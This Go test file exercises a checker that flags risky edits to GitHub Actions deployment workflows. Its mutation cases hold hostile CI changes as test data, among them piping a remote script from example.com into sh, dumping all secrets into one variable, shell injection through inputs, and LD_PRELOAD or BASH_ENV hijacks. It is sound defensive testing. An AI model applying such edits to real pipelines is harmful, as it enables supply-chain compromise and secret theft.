package workflow_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"crane/internal/workflow"
	"crane/stacks"
)

// mutation is one edit of one workflow, and the rules that have to notice it:
// those and no others.
type mutation struct {
	name, file, old, now string
	rules                []workflow.Rule
}

func rules(r ...workflow.Rule) []workflow.Rule { return r }

const (
	topPermissions = "permissions: {}\n"
	deployName     = "      - name: Deploy to staging\n"
	checkoutLines  = "        with:\n          persist-credentials: false\n"
	passphrase     = "PULUMI_CONFIG_PASSPHRASE: ${{ secrets.PULUMI_CONFIG_PASSPHRASE }}\n"
	setupGoOff     = "          cache: false\n"
)

var mutations = []mutation{
	{"strangers start it on main", "preview.yml", "  pull_request:\n", "  pull_request_target:\n", rules(workflow.Start)},
	{"another run starts it", "deploy.yml", "on:\n", "on:\n  workflow_run:\n    workflows: [verify]\n", rules(workflow.Start)},
	{"a push promotes", "promote.yml", "on:\n", "on:\n  push:\n    branches: [main]\n", rules(workflow.Start)},
	{"a clock promotes", "promote.yml", "on:\n", "on:\n  schedule:\n    - cron: \"0 0 * * *\"\n", rules(workflow.Start)},
	{"another workflow promotes", "promote.yml", "on:\n", "on:\n  workflow_call:\n", rules(workflow.Start)},
	{"the first promotion is the default", "promote.yml", "production's state\n        type: boolean\n        default: false", "production's state\n        type: boolean\n        default: true", rules(workflow.Start)},
	{"every branch deploys", "deploy.yml", "    branches: [main]\n", "    branches: [main, \"*\"]\n", rules(workflow.Start)},
	{"a tag deploys", "deploy.yml", "    branches: [main]\n", "    branches: [main]\n    tags: [main]\n", rules(workflow.Start)},
	{"a label starts it", "verify.yml", "  pull_request:\n", "  pull_request:\n    types: [labeled]\n", rules(workflow.Start)},

	{"rights for every job", "verify.yml", topPermissions, "permissions:\n  contents: read # for all\n", rules(workflow.Top)},
	{"no permissions at the top", "promote.yml", topPermissions, "", rules(workflow.Top)},
	{"every right to read", "drift.yml", topPermissions, "permissions: read-all\n", rules(workflow.Top)},
	{"another shell", "deploy.yml", "    shell: bash\n", "    shell: sh\n", rules(workflow.Top)},
	{"a variable for every job", "drift.yml", topPermissions, topPermissions + "env:\n  CI: \"1\"\n", rules(workflow.Top)},
	{"a secret for every job", "deploy.yml", topPermissions, topPermissions + "env:\n  " + passphrase, rules(workflow.Top, workflow.Secret)},

	{"a job without permissions", "verify.yml", "    permissions:\n      contents: read # to check the commit out\n", "", rules(workflow.Grant)},
	{"every right to write", "preview.yml", "    permissions:\n      contents: read # to check the merge result out\n      actions: read # to fetch the preview states that the newest runs have published\n", "    permissions: write-all\n", rules(workflow.Grant, workflow.Foreign)},
	{"a right to write contents", "deploy.yml", "      contents: read # to check the commit out\n      id-token", "      contents: write # to check the commit out\n      id-token", rules(workflow.Grant)},
	{"a preview that signs", "preview.yml", "      contents: read # to check the merge result out\n", "      contents: read # to check the merge result out\n      id-token: write # to sign the preview\n", rules(workflow.Grant, workflow.Foreign, workflow.Regardless)},
	{"an inspection that signs", "drift.yml", "      contents: read #", "      id-token: write # to log in somewhere\n      contents: read #", rules(workflow.Grant, workflow.Regardless)},
	{"a grant without its reason", "promote.yml", "      actions: read # to fetch the receipts that runs have published\n", "      actions: read\n", rules(workflow.Grant)},

	{"a preview in production", "preview.yml", "    timeout-minutes: 30\n", "    timeout-minutes: 30\n    environment: production\n", rules(workflow.Environment, workflow.Foreign)},
	{"an inspection of production, in other letters", "drift.yml", "environment: staging", "environment: Production", rules(workflow.Environment)},
	{"a promotion outside its environment", "promote.yml", "    environment: production\n", "", rules(workflow.Environment)},
	{"a deployment to where an expression says", "deploy.yml", "environment: staging", "environment: ${{ github.ref_name }}", rules(workflow.Environment, workflow.Expression)},
	{"a second job in production", "promote.yml", "jobs:\n", "jobs:\n  other:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n    environment: production\n    permissions: {}\n    steps:\n      - run: make tools\n", rules(workflow.Known, workflow.Environment, workflow.Listed)},

	{"a machine of one's own", "promote.yml", "runs-on: ubuntu-24.04", "runs-on: self-hosted", rules(workflow.Machine)},
	{"whichever machine is newest", "deploy.yml", "runs-on: ubuntu-24.04", "runs-on: ubuntu-latest", rules(workflow.Machine)},
	{"a job without an end", "drift.yml", "    timeout-minutes: 45\n", "", rules(workflow.Machine)},
	{"a job of a day", "promote.yml", "timeout-minutes: 60", "timeout-minutes: 1440", rules(workflow.Machine)},

	{"a promotion that is cancelled", "promote.yml", "cancel-in-progress: false", "cancel-in-progress: true", rules(workflow.Queue)},
	{"a deployment that is cancelled", "deploy.yml", "cancel-in-progress: false", "cancel-in-progress: true", rules(workflow.Queue)},
	{"two promotions at once", "promote.yml", "concurrency:\n  group: production\n  cancel-in-progress: false\n", "", rules(workflow.Queue)},
	{"an inspection in the place of a deployment", "drift.yml", "  group: drift\n", "  group: staging\n", rules(workflow.Queue)},
	{"one group for all previews", "preview.yml", "  group: preview-${{ github.event.pull_request.number }}\n", "  group: preview\n", rules(workflow.Queue)},
	{"previews that pile up", "preview.yml", "cancel-in-progress: true", "cancel-in-progress: false", rules(workflow.Queue)},

	{"all secrets passed on", "deploy.yml", "    uses: ./.github/workflows/verify.yml\n", "    uses: ./.github/workflows/verify.yml\n    secrets: inherit\n", rules(workflow.Secret)},
	{"somebody else's workflow", "deploy.yml", "./.github/workflows/verify.yml", "someone/else/.github/workflows/verify.yml@main", rules(workflow.Call)},
	{"a deployment that waits for nothing", "deploy.yml", "    needs: verify\n", "", rules(workflow.Needs)},
	{"a deployment of what failed", "deploy.yml", "    needs: verify\n", "    needs: verify\n    if: ${{ always() }}\n", rules(workflow.When)},

	{"a comment by the code of the pull request", "preview.yml", "github.event.pull_request.base.sha }}", "github.event.pull_request.head.sha }}", rules(workflow.Whose, workflow.Expression)},
	{"a comment by what a merge would make", "preview.yml", "          ref: ${{ github.event.pull_request.base.sha }} # never the code of the pull request\n", "", rules(workflow.Whose)},
	{"a comment for a fork", "preview.yml", "      && github.event.pull_request.head.repo.full_name == github.repository }}", "      }}", rules(workflow.When)},
	{"a comment on what was overtaken", "preview.yml", "!cancelled() && (needs.preview.result == 'success' || needs.preview.result == 'failure')", "!cancelled()", rules(workflow.When)},
	{"a deployment of another commit", "deploy.yml", checkoutLines, checkoutLines + "          ref: refs/heads/other\n", rules(workflow.Whose)},
	{"a promotion of what was asked for, unchecked", "promote.yml", checkoutLines, checkoutLines + "          ref: ${{ inputs.commit }}\n", rules(workflow.Whose, workflow.Expression)},

	{"an action by its tag", "verify.yml", "actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2", "actions/checkout@v6.0.2 # v6.0.2", rules(workflow.Pin)},
	{"an action by half a commit", "deploy.yml", "actions/setup-go@7a3fe6cf4cb3a834922a1244abfce67bcef6a0c5", "actions/setup-go@7a3fe6cf4cb3", rules(workflow.Pin)},
	{"an action without its version", "promote.yml", "ce83dd # v6.0.2", "ce83dd", rules(workflow.Pin)},
	{"an action of somebody's", "promote.yml", "actions/checkout@", "someone/checkout@", rules(workflow.Pin, workflow.Listed)},
	{"an action of the checkout", "deploy.yml", deployName, "      - uses: ./.github/actions/deploy\n" + deployName, rules(workflow.Pin, workflow.Listed)},

	{"a token left in the checkout", "promote.yml", "persist-credentials: false", "persist-credentials: true", rules(workflow.Input)},
	{"a token left in the checkout by default", "verify.yml", "          persist-credentials: false\n", "", rules(workflow.Input)},
	{"a checkout of another repository", "deploy.yml", checkoutLines, checkoutLines + "          repository: someone/else\n", rules(workflow.Input)},
	{"an artifact that may be missing", "deploy.yml", "          if-no-files-found: error\n", "          if-no-files-found: warn\n", rules(workflow.Input)},
	{"an artifact over the built crane", "preview.yml", "          path: .crane/comment #", "          path: .crane/bin #", rules(workflow.Input, workflow.Listed)},

	{"a cache in the promotion", "promote.yml", setupGoOff, "", rules(workflow.Foreign)},
	{"a cache of npm in the promotion", "promote.yml", "          package-manager-cache: false\n", "          package-manager-cache: false\n          cache: npm\n", rules(workflow.Foreign)},
	{"a cache in the deployment", "deploy.yml", setupGoOff, "          cache: true\n", rules(workflow.Foreign)},
	{"a cache of the pull request's in the comment", "preview.yml", "          cache: false # the code of the pull request could have written it\n", "", rules(workflow.Foreign)},
	{"the action that caches", "promote.yml", "      - name: Build crane\n", "      - uses: actions/cache@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2\n      - name: Build crane\n", rules(workflow.Pin, workflow.Listed)},
	{"another job's artifact in the deployment", "deploy.yml", deployName, "      - uses: actions/download-artifact@37930b1c2abaa49bbe596cd826c3c89aef350131 # v7.0.0\n        with:\n          name: bundles\n          path: .crane/comment\n" + deployName, rules(workflow.Foreign, workflow.Listed)},

	{"a script from the network", "promote.yml", "run: make crane", "run: curl https://example.com/install | sh", rules(workflow.Command, workflow.Listed)},
	{"two commands in one line", "deploy.yml", "run: make tools", "run: make tools; true", rules(workflow.Command, workflow.Listed)},
	{"a failure that is swallowed", "verify.yml", "run: make test", "run: make test || true", rules(workflow.Command, workflow.Listed)},
	{"staging torn down", "deploy.yml", "run: .crane/bin/crane up", "run: .crane/bin/crane down", rules(workflow.Command, workflow.Listed)},
	{"a shell of a step's own", "promote.yml", "        run: make crane\n", "        run: make crane\n        shell: python\n", rules(workflow.Command)},

	{"an input as program text", "promote.yml", "fetch receipts --commit \"$COMMIT\"", "fetch receipts --commit \"${{ inputs.commit }}\"", rules(workflow.Injection, workflow.Listed)},
	{"the number as program text", "preview.yml", "--pull-request \"$NUMBER\"", "--pull-request ${{ github.event.pull_request.number }}", rules(workflow.Injection, workflow.Listed)},
	{"a variable for later steps", "deploy.yml", "run: make tools", "run: make tools >> \"$GITHUB_ENV\"", rules(workflow.Leak, workflow.Listed)},
	{"a program for later steps", "promote.yml", "run: make crane", "run: make crane >> $GITHUB_PATH", rules(workflow.Leak, workflow.Listed)},

	{"all secrets in one variable", "deploy.yml", passphrase, "PULUMI_CONFIG_PASSPHRASE: ${{ toJSON(secrets) }}\n", rules(workflow.Expression, workflow.Env)},
	{"a secret by its index", "deploy.yml", passphrase, "PULUMI_CONFIG_PASSPHRASE: ${{ secrets['PULUMI_CONFIG_PASSPHRASE'] }}\n", rules(workflow.Expression, workflow.Env)},
	{"a title in a variable", "preview.yml", "NUMBER: ${{ github.event.pull_request.number }}", "NUMBER: ${{ github.event.pull_request.title }}", rules(workflow.Expression, workflow.Env)},
	{"a branch in a name", "preview.yml", "      - name: Comment\n", "      - name: Comment on ${{ github.head_ref }}\n", rules(workflow.Expression)},

	{"a secret of production's", "promote.yml", "          FIRST: ${{ inputs.first }}\n", "          FIRST: ${{ inputs.first }}\n          CLOUDFLARE_API_TOKEN: ${{ secrets.CLOUDFLARE_API_TOKEN }}\n", rules(workflow.Secret, workflow.Env)},
	{"a secret in a preview", "preview.yml", "        run: .crane/bin/crane preview --markdown .crane/preview.md\n", "        run: .crane/bin/crane preview --markdown .crane/preview.md\n        env:\n          " + passphrase, rules(workflow.Secret, workflow.Env)},
	{"a secret where there is no environment", "preview.yml", "          GITHUB_TOKEN: ${{ github.token }}\n      - name: Preview\n", "          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n      - name: Preview\n", rules(workflow.Secret, workflow.Env)},
	{"a secret for the whole job", "deploy.yml", "    environment: staging\n", "    environment: staging\n    env:\n      " + passphrase, rules(workflow.Secret, workflow.Env)},
	{"a secret for make", "deploy.yml", "        run: make tools\n", "        run: make tools\n        env:\n          " + passphrase, rules(workflow.Secret, workflow.Env)},
	{"a secret that is not staging's", "deploy.yml", "${{ secrets.CLOUDFLARE_API_TOKEN }}", "${{ secrets.PRODUCTION_TOKEN }}", rules(workflow.Secret, workflow.Env)},
	{"a secret for an action", "deploy.yml", "          path: .crane/releases\n", "          path: ${{ secrets.CLOUDFLARE_API_TOKEN }}\n", rules(workflow.Secret, workflow.Listed)},

	{"the job's token in the preview", "preview.yml", "        run: .crane/bin/crane preview --markdown .crane/preview.md\n", "        run: .crane/bin/crane preview --markdown .crane/preview.md\n        env:\n          GITHUB_TOKEN: ${{ github.token }}\n", rules(workflow.Token, workflow.Env)},
	{"the job's token under another name", "drift.yml", "GITHUB_TOKEN: ${{ secrets.CRANE_DOCTOR_TOKEN || github.token }}", "TOKEN: ${{ github.token }}", rules(workflow.Token, workflow.Env)},
	{"the job's token in the promotion itself", "promote.yml", "          FIRST: ${{ inputs.first }}\n", "          FIRST: ${{ inputs.first }}\n          GITHUB_TOKEN: ${{ github.token }}\n", rules(workflow.Token, workflow.Env)},

	{"a receipt of what failed", "deploy.yml", "      - name: Write the receipt\n", "      - name: Write the receipt\n        if: ${{ always() }}\n", rules(workflow.Regardless, workflow.When)},
	{"a promotion in spite of a failure", "promote.yml", "      - name: Promote\n", "      - name: Promote\n        if: ${{ !cancelled() }}\n", rules(workflow.Regardless, workflow.When)},
	{"an inspection in spite of a failure", "drift.yml", "      - name: Inspect\n", "      - name: Inspect\n        if: always()\n", rules(workflow.Regardless, workflow.When)},

	{"a comment by what was fetched", "preview.yml", "        run: make crane\n      - uses: actions/download-artifact", "        run: git fetch origin \"pull/$NUMBER/merge\" && git checkout --detach FETCH_HEAD && make crane\n      - uses: actions/download-artifact", rules(workflow.Listed)},
	{"a promotion by somebody's program", "promote.yml", "run: make crane", "run: git clone https://example.com/crane .crane/other && make -C .crane/other crane", rules(workflow.Listed)},
	{"a promotion of another branch", "promote.yml", "run: git checkout --detach \"$(cat .crane/commit)\"", "run: git checkout origin/other", rules(workflow.Listed)},
	{"a promotion of what main happens to be", "promote.yml", "        if: ${{ !inputs.rollback }}\n        run: git checkout --detach \"$(cat .crane/commit)\"\n", "        if: ${{ !inputs.rollback }}\n        run: git checkout --detach\n", rules(workflow.Listed)},
	{"the same with another argument", "deploy.yml", "run: make tools", "run: make tools -f .crane/other", rules(workflow.Listed)},
	{"no tests", "verify.yml", "      - name: Run all tests\n        run: make test\n", "", rules(workflow.Listed)},
	{"another order", "deploy.yml", "      - name: Find or build the tools\n        run: make tools\n" + deployName, deployName, rules(workflow.Listed)},
	{"a step more at the end", "verify.yml", "        run: make test\n", "        run: make test\n      - run: make bench\n", rules(workflow.Listed)},
	{"an artifact of another folder", "deploy.yml", "          path: .crane/releases\n", "          path: .crane\n", rules(workflow.Listed)},
	{"a file that is passed off as a receipt", "promote.yml", "          name: promoted\n", "          name: release\n", rules(workflow.Listed)},
	{"an action that is a command too", "verify.yml", "          go-version-file: go.mod\n", "          go-version-file: go.mod\n        run: make test\n", rules(workflow.Listed)},

	{"tests that never run", "verify.yml", "        run: make test\n", "        if: ${{ false }}\n        run: make test\n", rules(workflow.When)},
	{"a verification that never runs", "verify.yml", "    timeout-minutes: 60\n", "    timeout-minutes: 60\n    if: ${{ false }}\n", rules(workflow.When)},
	{"migrations that nobody judges", "verify.yml", "github.event_name == 'pull_request'", "github.event_name == 'push'", rules(workflow.When)},
	{"a rollback that goes to the commit", "promote.yml", "        if: ${{ !inputs.rollback }}\n", "", rules(workflow.When)},
	{"a condition that is a text, and true", "promote.yml", "        if: ${{ !inputs.rollback }}\n", "        if: |\n          ${{ !inputs.rollback }}\n", rules(workflow.When)},
	{"a night that says nothing", "drift.yml", "failure() || cancelled()", "failure() && steps.inspect.outcome == 'failure'", rules(workflow.When)},
	{"a verification that waits for a job", "preview.yml", "  preview:\n    runs-on", "  preview:\n    needs: comment\n    runs-on", rules(workflow.Needs)},

	{"another shell start", "promote.yml", "          FIRST: ${{ inputs.first }}\n", "          FIRST: ${{ inputs.first }}\n          BASH_ENV: .crane/start\n", rules(workflow.Env)},
	{"other flags for Go", "promote.yml", "        run: make crane\n", "        run: make crane\n        env:\n          GOFLAGS: -overlay=.crane/overlay.json\n", rules(workflow.Env)},
	{"other programs", "deploy.yml", "        run: make tools\n", "        run: make tools\n        env:\n          PATH: .crane/comment\n", rules(workflow.Env)},
	{"a library before all others", "deploy.yml", "        run: .crane/bin/crane up\n        env:\n", "        run: .crane/bin/crane up\n        env:\n          LD_PRELOAD: .crane/library.so\n", rules(workflow.Env)},
	{"a script before all others", "preview.yml", "          NUMBER: ${{", "          NODE_OPTIONS: --require ./start.js\n          NUMBER: ${{", rules(workflow.Env)},
	{"a variable of an action's", "verify.yml", "          fetch-depth: 0", "          fetch-depth: 0\n        env:\n          GIT_CONFIG_COUNT: \"1\"\n        id: checkout", rules(workflow.Env)},
	{"a literal variable for the whole job", "promote.yml", "    environment: production\n", "    environment: production\n    env:\n      BASH_ENV: .crane/start\n", rules(workflow.Env)},
	{"an input as something else", "promote.yml", "FIRST: ${{ inputs.first }}", "FIRST: ${{ inputs.rollback }}", rules(workflow.Env)},
	{"a secret in the place of another", "deploy.yml", passphrase, "PULUMI_CONFIG_PASSPHRASE: ${{ secrets.CLOUDFLARE_API_TOKEN }}\n", rules(workflow.Env)},

	{"a job that passes for the check", "preview.yml", "  preview:\n    runs-on", "  preview:\n    name: verify\n    runs-on", rules(workflow.Known)},
	{"a deployment without its verification", "deploy.yml", "  verify:\n    uses: ./.github/workflows/verify.yml\n    permissions:\n      contents: read # to check the commit out\n\n", "", rules(workflow.Known)},
}

// unreadable are edits that bring something in that no rule has thought about.
var unreadable = []struct{ name, file, old, now, says string }{
	{"a container", "promote.yml", "    environment: production\n", "    environment: production\n    container: alpine\n", "container"},
	{"a matrix", "promote.yml", "    environment: production\n", "    environment: production\n    strategy:\n      matrix:\n        a: [1, 2]\n", "strategy"},
	{"a group of machines", "promote.yml", "runs-on: ubuntu-24.04", "runs-on: [self-hosted, linux]", "one value is expected"},
	{"an environment with an address", "deploy.yml", "environment: staging", "environment: {name: production}", "one value is expected"},
	{"a failure that does not count", "verify.yml", "        run: make test\n", "        run: make test\n        continue-on-error: true\n", "continue-on-error"},
	{"another folder", "promote.yml", "        run: make crane\n", "        run: make crane\n        working-directory: /tmp\n", "working-directory"},
	{"an alias", "promote.yml", "    environment: production\n", "    environment: &e production\n    name: *e\n", "anchor"},
	{"the same key twice", "promote.yml", "    environment: production\n", "    environment: staging\n    environment: production\n", "already"},
	{"the same input twice", "promote.yml", "          persist-credentials: false\n", "          persist-credentials: false\n          Persist-Credentials: true\n", "there twice"},
	{"a second document", "promote.yml", "name: promote\n", "name: promote\n---\nname: again\n", "second document"},
}

// texts are the workflows as they are, by their names.
func texts(t *testing.T) map[string]string {
	t.Helper()
	paths, err := filepath.Glob(root + workflow.Dir + "/*")
	require.NoError(t, err)
	all := map[string]string{}
	for _, path := range paths {
		text, err := os.ReadFile(path)
		require.NoError(t, err)
		all[filepath.Base(path)] = string(text)
	}
	return all
}

// mutated writes the workflows to a folder, with one edit.
func mutated(t *testing.T, file, old, now string) string {
	t.Helper()
	all := texts(t)
	require.Contains(t, all[file], old)
	all[file] = strings.Replace(all[file], old, now, 1)
	return written(t, all)
}

func written(t *testing.T, all map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range all {
		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600))
	}
	return dir
}

// found are the rules that the workflows of a folder break, each once.
func found(t *testing.T, dir string) []workflow.Rule {
	t.Helper()
	files, err := workflow.Read(dir)
	require.NoError(t, err)
	var all []workflow.Rule
	for _, p := range workflow.Check(files, stacks.ProductionGate) {
		t.Log(p)
		all = append(all, p.Rule)
	}
	return all
}

func unique(all []workflow.Rule) []workflow.Rule {
	set := map[workflow.Rule]bool{}
	var out []workflow.Rule
	for _, r := range all {
		if !set[r] {
			out = append(out, r)
		}
		set[r] = true
	}
	return out
}

func TestMutations(t *testing.T) {
	t.Parallel()
	for _, m := range mutations {
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			require.ElementsMatch(t, m.rules, unique(found(t, mutated(t, m.file, m.old, m.now))))
		})
	}
}

// TestNewFile: whatever a new workflow is, it needs a policy, and the ending does
// not hide it.
func TestNewFile(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"other.yml", "other.yaml"} {
		all := texts(t)
		all[name] = strings.Replace(all["promote.yml"], "group: production", "group: other", 1)
		got := unique(found(t, written(t, all)))
		require.Subset(t, got, rules(workflow.Known, workflow.Environment, workflow.Start, workflow.Grant), name)
	}
}

// TestNoFile: the gate without its workflow is no gate, nor is one before which
// nothing was verified.
func TestNoFile(t *testing.T) {
	t.Parallel()
	all := texts(t)
	delete(all, "promote.yml")
	require.Equal(t, rules(workflow.Known, workflow.Environment), found(t, written(t, all)))

	all = texts(t)
	delete(all, "verify.yml")
	require.Equal(t, rules(workflow.Known), found(t, written(t, all)))
}

// TestAnotherGate: what the gate pins, the workflows have to be.
func TestAnotherGate(t *testing.T) {
	t.Parallel()
	files, err := workflow.Read(root + workflow.Dir)
	require.NoError(t, err)
	for name, edit := range map[string]func(*stacks.Gate){
		"branch":      func(g *stacks.Gate) { g.Branch = "trunk" },
		"event":       func(g *stacks.Gate) { g.Promote.Event = "push" },
		"environment": func(g *stacks.Gate) { g.Promote.Environment = "live" },
		"file":        func(g *stacks.Gate) { g.Promote.File = "production.yml" },
		"deploy":      func(g *stacks.Gate) { g.Deploy.Environment = "test" },
	} {
		gate := stacks.ProductionGate
		edit(&gate)
		require.NotEmpty(t, workflow.Check(files, gate), name)
	}
}

func TestUnreadable(t *testing.T) {
	t.Parallel()
	for _, m := range unreadable {
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			_, err := workflow.Read(mutated(t, m.file, m.old, m.now))
			require.ErrorIs(t, err, workflow.ErrMalformed)
			require.ErrorContains(t, err, m.file+": ")
			require.ErrorContains(t, err, m.says)
			require.ErrorContains(t, err, "nothing was checked")
		})
	}
}
